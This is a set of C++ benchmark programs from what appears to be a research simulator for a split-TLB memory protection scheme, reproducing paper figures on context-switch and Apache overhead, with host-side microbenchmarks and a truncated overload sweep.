  std::printf("%-16s %12s %12s %10s %10s\n", "benchmark", "base cycles",
              "split cycles", "normalized", "paper");
  table.print(stdout);

  // The suite index: geometric mean over the per-test normalized values,
  // the same formula (and, by determinism, the same doubles) as
  // workloads::unixbench_index.
  double log_sum = 0;
  int n = 0;
  for (std::size_t i = first_ub; i < table.size(); ++i) {
    const double ratio = metric(table[i], "normalized");
    if (ratio > 0) {
      log_sum += std::log(ratio);
      ++n;
    }
  }
  const double idx = n == 0 ? 0 : std::exp(log_sum / n);
  std::printf("%-16s %12s %12s %10.3f %10s\n", "unixbench", "-", "-", idx,
              "~0.82");
  std::printf("\nunixbench per-test detail:\n");
  for (std::size_t i = 0; i < suite.size(); ++i) {
    std::printf("  %-20s %10.3f\n", to_string(suite[i]),
                metric(table[first_ub + i], "normalized"));
  }
  pool.report(table);
  return 0;
}
