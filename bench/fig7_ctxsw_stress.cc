// Reproduces paper Fig. 7: "Stress testing the performance penalties due to
// context switching" — Unixbench pipe-based context switching and Apache
// serving a 1 KB page, both at or below ~50% of unprotected speed because
// every context switch flushes both TLBs and every TLB refill is a fault.
#include <cstdio>

#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main() {
  std::printf("Fig. 7: context-switch stress (normalized, paper: both at or "
              "below ~0.50)\n\n");
  std::printf("%-24s %12s %12s %10s %14s %14s\n", "stressor", "base cycles",
              "split cycles", "normalized", "base ctxsw", "split faults");

  const Protection none = Protection::none();
  const Protection split = Protection::split_all();

  bool ok = true;
  {
    const auto b = run_unixbench(UnixBench::kPipeContextSwitch, none);
    const auto p = run_unixbench(UnixBench::kPipeContextSwitch, split);
    const double n = normalized(b, p);
    std::printf("%-24s %12llu %12llu %10.3f %14llu %14llu\n",
                "unixbench pipe-ctxsw",
                static_cast<unsigned long long>(b.cycles),
                static_cast<unsigned long long>(p.cycles), n,
                static_cast<unsigned long long>(b.stats.context_switches),
                static_cast<unsigned long long>(p.stats.split_dtlb_loads +
                                                p.stats.split_itlb_loads));
    ok = ok && n <= 0.55;
  }
  {
    WebserverConfig cfg;
    cfg.response_bytes = 1024;
    const auto b = run_webserver(none, cfg);
    const auto p = run_webserver(split, cfg);
    const double n = normalized(b.base, p.base);
    std::printf("%-24s %12llu %12llu %10.3f %14llu %14llu\n", "apache-1KB",
                static_cast<unsigned long long>(b.base.cycles),
                static_cast<unsigned long long>(p.base.cycles), n,
                static_cast<unsigned long long>(b.base.stats.context_switches),
                static_cast<unsigned long long>(
                    p.base.stats.split_dtlb_loads +
                    p.base.stats.split_itlb_loads));
    ok = ok && n <= 0.55;
  }
  std::printf("\npaper shape (both <= ~0.5): %s\n",
              ok ? "REPRODUCED" : "MISMATCH");
  return ok ? 0 : 1;
}
