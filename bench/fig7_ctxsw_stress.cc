// Reproduces paper Fig. 7: "Stress testing the performance penalties due to
// context switching" — Unixbench pipe-based context switching and Apache
// serving a 1 KB page, both at or below ~50% of unprotected speed because
// every context switch flushes both TLBs and every TLB refill is a fault.
#include <cstdio>
#include <vector>

#include "runner/experiment_runner.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "fig7_ctxsw_stress",
      "Fig. 7: context-switch stressors (pipe-ctxsw, apache-1KB) under "
      "stand-alone split memory");
  runner::ExperimentRunner pool(opts);

  const Protection none = Protection::none();
  const Protection split = Protection::split_all();

  std::vector<runner::SweepPoint> points;
  points.push_back({"pipe-ctxsw", [&] {
    runner::PointResult res;
    const auto b = run_unixbench(UnixBench::kPipeContextSwitch, none);
    const auto p = run_unixbench(UnixBench::kPipeContextSwitch, split);
    const double n = normalized(b, p);
    res.text = runner::strf(
        "%-24s %12llu %12llu %10.3f %14llu %14llu\n", "unixbench pipe-ctxsw",
        static_cast<unsigned long long>(b.cycles),
        static_cast<unsigned long long>(p.cycles), n,
        static_cast<unsigned long long>(b.stats.context_switches),
        static_cast<unsigned long long>(p.stats.split_dtlb_loads +
                                        p.stats.split_itlb_loads));
    res.add("normalized", n);
    res.add("ok", n <= 0.55);
    return res;
  }});
  points.push_back({"apache-1KB", [&] {
    runner::PointResult res;
    WebserverConfig cfg;
    cfg.response_bytes = 1024;
    const auto b = run_webserver(none, cfg);
    const auto p = run_webserver(split, cfg);
    const double n = normalized(b.base, p.base);
    res.text = runner::strf(
        "%-24s %12llu %12llu %10.3f %14llu %14llu\n", "apache-1KB",
        static_cast<unsigned long long>(b.base.cycles),
        static_cast<unsigned long long>(p.base.cycles), n,
        static_cast<unsigned long long>(b.base.stats.context_switches),
        static_cast<unsigned long long>(p.base.stats.split_dtlb_loads +
                                        p.base.stats.split_itlb_loads));
    res.add("normalized", n);
    res.add("ok", n <= 0.55);
    return res;
  }});

  const runner::ResultTable table = pool.run(points);
  std::printf("Fig. 7: context-switch stress (normalized, paper: both at or "
              "below ~0.50)\n\n");
  std::printf("%-24s %12s %12s %10s %14s %14s\n", "stressor", "base cycles",
              "split cycles", "normalized", "base ctxsw", "split faults");
  table.print(stdout);
  bool ok = true;
  for (const auto& rec : table.points()) ok = ok && metric(rec, "ok") != 0;
  std::printf("\npaper shape (both <= ~0.5): %s\n",
              ok ? "REPRODUCED" : "MISMATCH");

  if (opts.trace_summary) {
    // Serial re-run of the protected stressor with tracing on: the SS4.6
    // decomposition should show context-switch flushes dominating TLB
    // capacity faults (this workload barely has a working set).
    const auto traced =
        run_unixbench(UnixBench::kPipeContextSwitch, split.with_trace());
    if (traced.trace_summary) {
      const trace::ProfileSummary& s = *traced.trace_summary;
      std::printf("\n--- pipe-ctxsw under split-all: cycle attribution ---\n");
      std::printf("%s", trace::format_summary(s).c_str());
      std::printf("SS4.6 dominant source: %s\n",
                  s.ctx_switch_flush_cycles() >= s.capacity_fault_cycles()
                      ? "context-switch flushes (paper: dominant here)"
                      : "tlb capacity faults (unexpected for this stressor)");
    } else {
      std::printf("\n(--trace-summary: tracing compiled out, SM_TRACE=OFF)\n");
    }
  }

  pool.report(table);
  return ok ? 0 : 1;
}
