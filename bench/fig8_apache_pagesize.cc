// Reproduces paper Fig. 8: "Closer look into Apache performance" — served
// page size swept from 1 KB to 512 KB. Small pages context-switch per
// request and suffer most; large pages amortize the TLB-refill cost over
// more work and begin to saturate the network link, so normalized
// performance recovers toward 1.0.
#include <cstdio>

#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main() {
  std::printf("Fig. 8: Apache throughput vs served page size\n\n");
  std::printf("%-10s %14s %14s %10s %10s\n", "page size", "base req/Mcyc",
              "split req/Mcyc", "normalized", "net-bound");

  const Protection none = Protection::none();
  const Protection split = Protection::split_all();

  double prev = 0;
  bool monotone = true;
  for (const u32 kb : {1u, 4u, 16u, 32u, 64u, 128u, 256u, 512u}) {
    WebserverConfig cfg;
    cfg.response_bytes = kb * 1024;
    // Keep total bytes served roughly constant across the sweep.
    cfg.requests = std::max(16u, 4096u / kb);
    const auto b = run_webserver(none, cfg);
    const auto p = run_webserver(split, cfg);
    const double n = normalized(b.base, p.base);
    const bool netbound = p.base.sim_time > p.base.cycles;
    std::printf("%7uKB %14.2f %14.2f %10.3f %10s\n", kb,
                b.requests_per_mcycle, p.requests_per_mcycle, n,
                netbound ? "yes" : "no");
    if (n + 0.02 < prev) monotone = false;  // allow small noise
    prev = n;
  }
  std::printf("\npaper shape (low at 1KB, recovering toward 1.0 as pages "
              "grow and the link saturates): %s\n",
              monotone ? "REPRODUCED" : "MISMATCH");
  return monotone ? 0 : 1;
}
