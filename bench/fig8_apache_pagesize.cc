// Reproduces paper Fig. 8: "Closer look into Apache performance" — served
// page size swept from 1 KB to 512 KB. Small pages context-switch per
// request and suffer most; large pages amortize the TLB-refill cost over
// more work and begin to saturate the network link, so normalized
// performance recovers toward 1.0.
//
// One sweep point per page size (each runs its own base+split pair); the
// monotonicity check walks the collected points in sweep order.
#include <algorithm>
#include <cstdio>
#include <vector>

#include "runner/experiment_runner.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "fig8_apache_pagesize",
      "Fig. 8: Apache throughput vs served page size (1 KB..512 KB)");
  runner::ExperimentRunner pool(opts);

  const Protection none = Protection::none();
  const Protection split = Protection::split_all();

  std::vector<u32> sizes_kb = {1u, 4u, 16u, 32u, 64u, 128u, 256u, 512u};
  if (opts.quick) sizes_kb = {1u, 32u, 512u};

  std::vector<runner::SweepPoint> points;
  for (const u32 kb : sizes_kb) {
    points.push_back({runner::strf("%uKB", kb), [&, kb] {
      runner::PointResult res;
      WebserverConfig cfg;
      cfg.response_bytes = kb * 1024;
      // Keep total bytes served roughly constant across the sweep.
      cfg.requests = std::max(16u, 4096u / kb);
      const auto b = run_webserver(none, cfg);
      const auto p = run_webserver(split, cfg);
      const double n = normalized(b.base, p.base);
      const bool netbound = p.base.sim_time > p.base.cycles;
      res.text = runner::strf("%7uKB %14.2f %14.2f %10.3f %10s\n", kb,
                              b.requests_per_mcycle, p.requests_per_mcycle, n,
                              netbound ? "yes" : "no");
      res.add("normalized", n);
      res.add("base_req_per_mcycle", b.requests_per_mcycle);
      res.add("split_req_per_mcycle", p.requests_per_mcycle);
      res.add("net_bound", netbound);
      return res;
    }});
  }

  const runner::ResultTable table = pool.run(points);
  std::printf("Fig. 8: Apache throughput vs served page size\n\n");
  std::printf("%-10s %14s %14s %10s %10s\n", "page size", "base req/Mcyc",
              "split req/Mcyc", "normalized", "net-bound");
  table.print(stdout);

  double prev = 0;
  bool monotone = true;
  for (const auto& rec : table.points()) {
    const double n = metric(rec, "normalized");
    if (n + 0.02 < prev) monotone = false;  // allow small noise
    prev = n;
  }
  std::printf("\npaper shape (low at 1KB, recovering toward 1.0 as pages "
              "grow and the link saturates): %s\n",
              monotone ? "REPRODUCED" : "MISMATCH");
  pool.report(table);
  return monotone ? 0 : 1;
}
