// Reproduces paper Fig. 9: "Unixbench pipe ctxsw with varying percentages
// of pages being split" — the combined-deployment argument: when only the
// (few) mixed pages of an application are split and the execute-disable
// bit covers the rest, even the worst-case benchmark runs near full speed
// (~0.80 at 10% split in the paper), degrading smoothly to the stand-alone
// figure at 100%.
#include <cstdio>

#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

int main() {
  std::printf("Fig. 9: pipe-based context switching vs %% of pages split\n\n");
  std::printf("%-8s %12s %10s\n", "split %", "cycles", "normalized");

  const auto base = run_unixbench(UnixBench::kPipeContextSwitch,
                                  Protection::none());
  double at10 = 0;
  double at100 = 1;
  double prev = 2.0;
  bool monotone = true;
  constexpr u32 kSeeds = 8;  // average over several random page choices
  for (const u32 pct : {0u, 5u, 10u, 20u, 30u, 40u, 50u, 60u, 70u, 80u, 90u,
                        100u}) {
    double sum = 0;
    u64 cycle_sum = 0;
    for (u32 seed = 0; seed < kSeeds; ++seed) {
      const auto p = run_unixbench(UnixBench::kPipeContextSwitch,
                                   Protection::fraction(pct, seed));
      sum += normalized(base, p);
      cycle_sum += p.cycles;
    }
    const double n = sum / kSeeds;
    std::printf("%7u%% %12llu %10.3f\n", pct,
                static_cast<unsigned long long>(cycle_sum / kSeeds), n);
    if (pct == 10) at10 = n;
    if (pct == 100) at100 = n;
    if (n > prev + 0.05) monotone = false;
    prev = n;
  }
  const bool ok = monotone && at10 >= 0.70 && at100 <= 0.55;
  std::printf("\npaper shape (~0.80 at 10%%, stand-alone level at 100%%, "
              "monotone): %s\n",
              ok ? "REPRODUCED" : "MISMATCH");
  return ok ? 0 : 1;
}
