// Reproduces paper Fig. 9: "Unixbench pipe ctxsw with varying percentages
// of pages being split" — the combined-deployment argument: when only the
// (few) mixed pages of an application are split and the execute-disable
// bit covers the rest, even the worst-case benchmark runs near full speed
// (~0.80 at 10% split in the paper), degrading smoothly to the stand-alone
// figure at 100%.
//
// The sweep fans out as one point per (split %, seed) pair plus one
// baseline point; rows aggregate the collected per-seed results in sweep
// order, so the table is byte-identical for any --jobs.
#include <cstdio>
#include <vector>

#include "runner/experiment_runner.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;

namespace {

double eff(const WorkloadResult& r) {
  return static_cast<double>(r.sim_time != 0 ? r.sim_time : r.cycles);
}

}  // namespace

int main(int argc, char** argv) {
  const runner::RunnerOptions opts = runner::parse_runner_args(
      argc, argv, "fig9_split_fraction",
      "Fig. 9: pipe-based context switching vs % of pages split "
      "(averaged over several random page choices)");
  runner::ExperimentRunner pool(opts);

  std::vector<u32> pcts = {0u, 5u, 10u, 20u, 30u, 40u, 50u, 60u,
                           70u, 80u, 90u, 100u};
  u32 seeds = 8;  // average over several random page choices
  if (opts.quick) {
    pcts = {0u, 10u, 100u};
    seeds = 2;
  }

  std::vector<runner::SweepPoint> points;
  points.push_back({"base", [] {
    runner::PointResult res;
    const auto base = run_unixbench(UnixBench::kPipeContextSwitch,
                                    Protection::none());
    res.add("eff", eff(base));
    res.add("cycles", static_cast<double>(base.cycles));
    return res;
  }});
  for (const u32 pct : pcts) {
    for (u32 seed = 0; seed < seeds; ++seed) {
      points.push_back({runner::strf("p=%u seed=%u", pct, seed),
                        [pct, seed] {
        runner::PointResult res;
        const auto p = run_unixbench(UnixBench::kPipeContextSwitch,
                                     Protection::fraction(pct, seed));
        res.add("eff", eff(p));
        res.add("cycles", static_cast<double>(p.cycles));
        return res;
      }});
    }
  }

  const runner::ResultTable table = pool.run(points);
  std::printf("Fig. 9: pipe-based context switching vs %% of pages split\n\n");
  std::printf("%-8s %12s %10s\n", "split %", "cycles", "normalized");

  const double base_eff = metric(table[0], "eff");
  double at10 = 0;
  double at100 = 1;
  double prev = 2.0;
  bool monotone = true;
  for (std::size_t pi = 0; pi < pcts.size(); ++pi) {
    const u32 pct = pcts[pi];
    double sum = 0;
    u64 cycle_sum = 0;
    for (u32 seed = 0; seed < seeds; ++seed) {
      const auto& rec = table[1 + pi * seeds + seed];
      const double p_eff = metric(rec, "eff");
      sum += p_eff == 0 ? 0 : base_eff / p_eff;
      cycle_sum += static_cast<u64>(metric(rec, "cycles"));
    }
    const double n = sum / seeds;
    std::printf("%7u%% %12llu %10.3f\n", pct,
                static_cast<unsigned long long>(cycle_sum / seeds), n);
    if (pct == 10) at10 = n;
    if (pct == 100) at100 = n;
    if (n > prev + 0.05) monotone = false;
    prev = n;
  }
  const bool ok = monotone && at10 >= 0.70 && at100 <= 0.55;
  std::printf("\npaper shape (~0.80 at 10%%, stand-alone level at 100%%, "
              "monotone): %s\n",
              ok ? "REPRODUCED" : "MISMATCH");
  pool.report(table);
  return ok ? 0 : 1;
}
