// google-benchmark microbenchmarks of the simulator substrate's hot paths:
// TLB lookup/insert, hardware page-table walks, single-instruction
// execution, the split-memory fault protocol, SHA-256, and the assembler.
// These measure HOST time (how fast the simulator itself runs), not
// simulated cycles.
#include <benchmark/benchmark.h>

#include <algorithm>
#include <cstdio>
#include <string>
#include <vector>

#include "arch/cpu.h"
#include "arch/mmu.h"
#include "asm/assembler.h"
#include "core/split_engine.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "image/sha256.h"
#include "kernel/kernel.h"

namespace {

using namespace sm;
using arch::kPageSize;
using arch::Pte;

void BM_TlbLookupHit(benchmark::State& state) {
  arch::Tlb tlb;
  for (arch::u32 v = 0; v < 64; ++v) {
    arch::TlbEntry e;
    e.vpn = v;
    e.pfn = v;
    e.user = true;
    tlb.insert(e);
  }
  arch::u32 v = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(tlb.lookup(v));
    v = (v + 1) & 63;
  }
}
BENCHMARK(BM_TlbLookupHit);

void BM_TlbInsertEvict(benchmark::State& state) {
  arch::Tlb tlb;
  arch::u32 v = 0;
  for (auto _ : state) {
    arch::TlbEntry e;
    e.vpn = v++;
    e.pfn = v;
    e.user = true;
    tlb.insert(e);
  }
}
BENCHMARK(BM_TlbInsertEvict);

void BM_PageTableWalk(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  arch::PageTable pt(pm, arch::PageTable::create(pm));
  pt.set(0x5000, Pte::make(3, Pte::kPresent | Pte::kUser));
  for (auto _ : state) {
    benchmark::DoNotOptimize(pt.walk(0x5000, &stats));
  }
}
BENCHMARK(BM_PageTableWalk);

void BM_CpuStepArithmetic(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  metrics::CostModel cost;
  arch::Mmu mmu(pm, stats, cost);
  arch::Cpu cpu(mmu, stats, cost);
  const arch::u32 root = arch::PageTable::create(pm);
  arch::PageTable pt(pm, root);
  const arch::u32 frame = pm.alloc_frame();
  pt.set(0x1000, Pte::make(frame, Pte::kPresent | Pte::kUser));
  // addi r0, 1 ; jmp 0x1000
  auto code = pm.frame_bytes(frame);
  code[0] = 0x19;
  code[1] = 0;
  code[2] = 1;
  code[6] = 0x20;
  code[7] = 0x00;
  code[8] = 0x10;
  mmu.set_cr3(root);
  cpu.regs().pc = 0x1000;
  for (auto _ : state) {
    benchmark::DoNotOptimize(cpu.step());
  }
}
BENCHMARK(BM_CpuStepArithmetic);

// Steady-state Cpu::step() with the decode cache and fetch memo warm: a
// straight-line block of the common instruction mix ending in a back-edge,
// so every step is one memo-translate + one decode-cache probe. This is
// the hot-loop number the figure sweeps are bound by.
void BM_CpuStepCached(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  metrics::CostModel cost;
  arch::Mmu mmu(pm, stats, cost);
  arch::Cpu cpu(mmu, stats, cost);
  const arch::u32 root = arch::PageTable::create(pm);
  arch::PageTable pt(pm, root);
  const arch::u32 frame = pm.alloc_frame();
  pt.set(0x1000, Pte::make(frame, Pte::kPresent | Pte::kUser));
  // addi r0, 1 ; mov r1, r0 ; add r1, r1 ; cmp r0, r1 ; jmp 0x1000
  const arch::u8 block[] = {0x19, 0, 1,    0, 0, 0,     // addi
                            0x02, 1, 0,                 // mov
                            0x10, 1, 1,                 // add
                            0x1A, 0, 1,                 // cmp
                            0x20, 0x00, 0x10, 0, 0};    // jmp 0x1000
  auto code = pm.frame_bytes(frame);
  std::copy(std::begin(block), std::end(block), code.begin());
  mmu.set_cr3(root);
  cpu.regs().pc = 0x1000;
  for (auto _ : state) {
    benchmark::DoNotOptimize(cpu.step());
  }
  state.SetItemsProcessed(static_cast<int64_t>(stats.instructions));
  state.counters["decode_hit_rate"] =
      static_cast<double>(stats.decode_cache_hits) /
      static_cast<double>(stats.decode_cache_hits + stats.decode_cache_misses);
}
BENCHMARK(BM_CpuStepCached);

// The basic-block engine over the BM_CpuStepCached workload: the same
// 5-instruction straight-line block ending in a back-edge, executed via
// Cpu::step_block() with a kernel-slice-sized budget, so one dispatch call
// chains many block executions. time/iteration is one 4096-instruction
// CHAIN here versus one INSTRUCTION in BM_CpuStepCached —
// items_per_second (retired instructions) is the apples-to-apples
// throughput comparison.
void BM_BlockExec(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  metrics::CostModel cost;
  arch::Mmu mmu(pm, stats, cost);
  arch::Cpu cpu(mmu, stats, cost);
  const arch::u32 root = arch::PageTable::create(pm);
  arch::PageTable pt(pm, root);
  const arch::u32 frame = pm.alloc_frame();
  pt.set(0x1000, Pte::make(frame, Pte::kPresent | Pte::kUser));
  // addi r0, 1 ; mov r1, r0 ; add r1, r1 ; cmp r0, r1 ; jmp 0x1000
  const arch::u8 block[] = {0x19, 0, 1,    0, 0, 0,      // addi
                            0x02, 1, 0,                  // mov
                            0x10, 1, 1,                  // add
                            0x1A, 0, 1,                  // cmp
                            0x20, 0x00, 0x10, 0, 0};     // jmp 0x1000
  auto code = pm.frame_bytes(frame);
  std::copy(std::begin(block), std::end(block), code.begin());
  mmu.set_cr3(root);
  cpu.regs().pc = 0x1000;
  for (auto _ : state) {
    benchmark::DoNotOptimize(cpu.step_block(4096));
  }
  state.SetItemsProcessed(static_cast<int64_t>(stats.instructions));
  state.counters["block_hit_rate"] =
      static_cast<double>(stats.block_cache_hits) /
      static_cast<double>(stats.block_cache_hits + stats.block_cache_misses);
  state.counters["instr_per_block"] =
      static_cast<double>(stats.block_instructions) /
      std::max(1.0, static_cast<double>(stats.block_cache_hits));
}
BENCHMARK(BM_BlockExec);

// Worst case for the block cache: the code frame is rewritten before every
// dispatch, so every entry probe takes the stale-generation + full
// re-record path (and re-decodes through the equally-stale decode cache).
// Guards against block-coherence machinery costing more than it saves.
void BM_BlockChainInvalidate(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  metrics::CostModel cost;
  arch::Mmu mmu(pm, stats, cost);
  arch::Cpu cpu(mmu, stats, cost);
  const arch::u32 root = arch::PageTable::create(pm);
  arch::PageTable pt(pm, root);
  const arch::u32 frame = pm.alloc_frame();
  pt.set(0x1000, Pte::make(frame, Pte::kPresent | Pte::kUser));
  const arch::u64 frame_pa = static_cast<arch::u64>(frame) * kPageSize;
  // addi r0, 1 ; jmp 0x1000
  pm.write8(frame_pa + 0, 0x19);
  pm.write8(frame_pa + 2, 1);
  pm.write8(frame_pa + 6, 0x20);
  pm.write8(frame_pa + 8, 0x10);
  mmu.set_cr3(root);
  cpu.regs().pc = 0x1000;
  for (auto _ : state) {
    // Same bytes, but the write bumps the frame generation: the next
    // dispatch must invalidate and re-record the block. The budget covers
    // exactly the 2-instruction block so chaining cannot dilute the
    // invalidation path with cached re-executions.
    pm.write8(frame_pa + 2, 1);
    benchmark::DoNotOptimize(cpu.step_block(2));
  }
}
BENCHMARK(BM_BlockChainInvalidate);

// The Mmu's one-entry fetch-translation memo alone: repeated instruction
// fetches on one page, no decode in the loop.
void BM_FetchFastPath(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  metrics::CostModel cost;
  arch::Mmu mmu(pm, stats, cost);
  const arch::u32 root = arch::PageTable::create(pm);
  arch::PageTable pt(pm, root);
  pt.set(0x1000, Pte::make(pm.alloc_frame(), Pte::kPresent | Pte::kUser));
  mmu.set_cr3(root);
  mmu.fetch8(0x1000);  // warm the I-TLB and the memo
  arch::u32 off = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        mmu.translate(0x1000 + off, arch::Access::kFetch));
    off = (off + 1) & arch::kPageMask;
  }
}
BENCHMARK(BM_FetchFastPath);

// Worst case for the decode cache: the code frame is rewritten before every
// step, so every fetch takes the probe + stale-generation + re-decode path.
// Guards against the coherence machinery costing more than it saves.
// The Mmu's read/write data-translation memos: a load+store pair walking
// one page, so after warm-up every translation is a memo hit (the path
// Cpu::push/pop and Load/Store take in straight-line code).
void BM_DataMemo(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  metrics::CostModel cost;
  arch::Mmu mmu(pm, stats, cost);
  const arch::u32 root = arch::PageTable::create(pm);
  arch::PageTable pt(pm, root);
  pt.set(0x1000, Pte::make(pm.alloc_frame(),
                           Pte::kPresent | Pte::kUser | Pte::kWritable));
  mmu.set_cr3(root);
  mmu.read8(0x1000);      // warm the D-TLB and the read memo
  mmu.write8(0x1000, 0);  // warm the write memo
  arch::u32 off = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        mmu.translate(0x1000 + off, arch::Access::kRead));
    benchmark::DoNotOptimize(
        mmu.translate(0x1000 + off, arch::Access::kWrite));
    off = (off + 1) & arch::kPageMask;
  }
  state.counters["data_fastpath_hit_rate"] =
      static_cast<double>(stats.data_fastpath_hits) /
      static_cast<double>(stats.dtlb_hits + stats.dtlb_misses);
}
BENCHMARK(BM_DataMemo);

void BM_DecodeCacheInvalidate(benchmark::State& state) {
  arch::PhysicalMemory pm(64);
  metrics::Stats stats;
  metrics::CostModel cost;
  arch::Mmu mmu(pm, stats, cost);
  arch::Cpu cpu(mmu, stats, cost);
  const arch::u32 root = arch::PageTable::create(pm);
  arch::PageTable pt(pm, root);
  const arch::u32 frame = pm.alloc_frame();
  pt.set(0x1000, Pte::make(frame, Pte::kPresent | Pte::kUser));
  const arch::u64 frame_pa = static_cast<arch::u64>(frame) * kPageSize;
  // addi r0, 1 ; jmp 0x1000
  pm.write8(frame_pa + 0, 0x19);
  pm.write8(frame_pa + 2, 1);
  pm.write8(frame_pa + 6, 0x20);
  pm.write8(frame_pa + 8, 0x10);
  mmu.set_cr3(root);
  cpu.regs().pc = 0x1000;
  for (auto _ : state) {
    // Same bytes, but the write bumps the frame generation: the next step
    // must re-decode.
    pm.write8(frame_pa + 2, 1);
    benchmark::DoNotOptimize(cpu.step());
  }
}
BENCHMARK(BM_DecodeCacheInvalidate);

void BM_SplitFaultProtocol(benchmark::State& state) {
  // One guest instruction loop on a split page with a data access to a
  // second split page, with TLBs flushed each round: measures the full
  // Algorithm 1+2 path (host-time cost of the simulated fault protocol).
  kernel::Kernel k;
  k.set_engine(core::make_engine(core::ProtectionMode::kSplitAll));
  const auto program = assembler::assemble(guest::program(R"(
_start:
loop:
  movi r1, buf
  load r2, [r1]
  jmp loop
.bss
buf: .space 64
)"));
  image::BuildOptions opts;
  opts.name = "loop";
  k.register_image(image::build_image(program, opts));
  k.spawn("loop");
  k.run(100);  // warm up: demand-map everything
  for (auto _ : state) {
    k.mmu().flush_tlbs();
    k.run(6);
  }
}
BENCHMARK(BM_SplitFaultProtocol);

void BM_Sha256_4K(benchmark::State& state) {
  std::vector<arch::u8> data(4096, 0xAB);
  for (auto _ : state) {
    benchmark::DoNotOptimize(image::sha256(data));
  }
  state.SetBytesProcessed(state.iterations() * 4096);
}
BENCHMARK(BM_Sha256_4K);

void BM_AssembleGuestLibc(benchmark::State& state) {
  const std::string src = guest::program("_start:\n  ret\n");
  for (auto _ : state) {
    benchmark::DoNotOptimize(assembler::assemble(src));
  }
}
BENCHMARK(BM_AssembleGuestLibc);

}  // namespace

// Custom main so the microbench shares the figure binaries' CLI convention
// (`--jobs`, `--json <path>`, `--help`) on top of google-benchmark's own
// flags, which still pass through untouched.
int main(int argc, char** argv) {
  std::vector<std::string> passthrough;
  passthrough.emplace_back(argc > 0 ? argv[0] : "microbench");
  for (int i = 1; i < argc; ++i) {
    const std::string arg = argv[i];
    auto value_of = [&](const char* flag) -> std::string {
      const std::string prefix = std::string(flag) + "=";
      if (arg.rfind(prefix, 0) == 0) return arg.substr(prefix.size());
      return i + 1 < argc ? std::string(argv[++i]) : std::string();
    };
    if (arg == "--help" || arg == "-h") {
      std::printf(
          "microbench — google-benchmark suite of the simulator's host-side "
          "hot paths\n"
          "\n"
          "Flags (shared bench convention):\n"
          "  --json <path>   write google-benchmark JSON to <path>\n"
          "                  (alias for --benchmark_out=<path>\n"
          "                  --benchmark_out_format=json; merged by\n"
          "                  tools/bench_json.py).\n"
          "  --jobs=N        accepted for convention; microbenchmarks are\n"
          "                  timing-sensitive and always run serially, so\n"
          "                  the value is ignored.\n"
          "  --help          this text.\n"
          "\n"
          "All --benchmark_* flags pass through to google-benchmark\n"
          "(e.g. --benchmark_filter=REGEX, --benchmark_min_time=0.1).\n");
      return 0;
    } else if (arg == "--json" || arg.rfind("--json=", 0) == 0) {
      const std::string path = value_of("--json");
      if (path.empty()) {
        std::fprintf(stderr, "microbench: --json requires a path\n");
        return 2;
      }
      passthrough.push_back("--benchmark_out=" + path);
      passthrough.push_back("--benchmark_out_format=json");
    } else if (arg == "--jobs" || arg.rfind("--jobs=", 0) == 0) {
      (void)value_of("--jobs");  // accepted, ignored (see --help)
    } else {
      passthrough.push_back(arg);
    }
  }
  std::vector<char*> cargs;
  cargs.reserve(passthrough.size());
  for (std::string& s : passthrough) cargs.push_back(s.data());
  int cargc = static_cast<int>(cargs.size());
  benchmark::Initialize(&cargc, cargs.data());
  if (benchmark::ReportUnrecognizedArguments(cargc, cargs.data())) return 1;
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  return 0;
}
