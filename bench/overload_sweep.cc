// Open-loop overload sweep: graceful degradation under offered load.
//
// Closed-loop benchmarks (server_load) cannot show saturation behaviour —
// a closed loop slows its own arrival rate when the server slows down.
// Here the arrival process is OPEN: a seeded exponential stream fires at a
// configured multiple of the server's measured capacity regardless of how
// the server is doing, and the server must degrade gracefully — shedding
// at admission, timing out on deadline, retrying refused connects — while
// goodput saturates instead of collapsing.
//
// For each (protection, cores) leg the sweep first calibrates capacity:
//   1. flood: every arrival lands at once, so the admission queue stays
//      full and goodput ~= service capacity (coarse, few samples);
//   2. refine: a second run offered at 2x the coarse estimate, which keeps
//      the queue busy across the whole stream and yields a tight estimate.
// All timeout/deadline knobs then derive from the calibrated per-request
// interval, and the sweep points offer {0.5, 1, 2, 4}x capacity.
//
// Everything is a pure function of the config: stdout is byte-identical
// across --jobs=1/--jobs=N and across runs at any core count.
#include <algorithm>
#include <cstdio>
#include <string>
#include <vector>

#include "runner/experiment_runner.h"
#include "trace/profiler.h"
#include "workloads/workload.h"

using namespace sm;
using namespace sm::workloads;
using arch::u32;
using arch::u64;

namespace {

OverloadConfig base_config(bool quick) {
  OverloadConfig cfg;
  if (quick) {
    cfg.workers = 8;
    cfg.arrivals = 240;
    cfg.qdepth = 32;
    cfg.backlog = 4;
  } else {
    cfg.workers = 32;
    cfg.arrivals = 4000;
    cfg.qdepth = 64;
    cfg.backlog = 8;
  }
  return cfg;
}

// Derive the load-dependent knobs from the calibrated capacity: every
// timeout scales with the mean per-request interval at capacity.
OverloadConfig config_at(const OverloadConfig& base, double capacity,
                         double multiplier) {
  OverloadConfig cfg = base;
  const double interval = 1e6 / capacity;  // cycles per request at capacity
  cfg.offered_rpmc = capacity * multiplier;
  cfg.deadline = static_cast<u32>(interval * cfg.qdepth * 2);
  cfg.recv_timeout = static_cast<u32>(interval * 8);
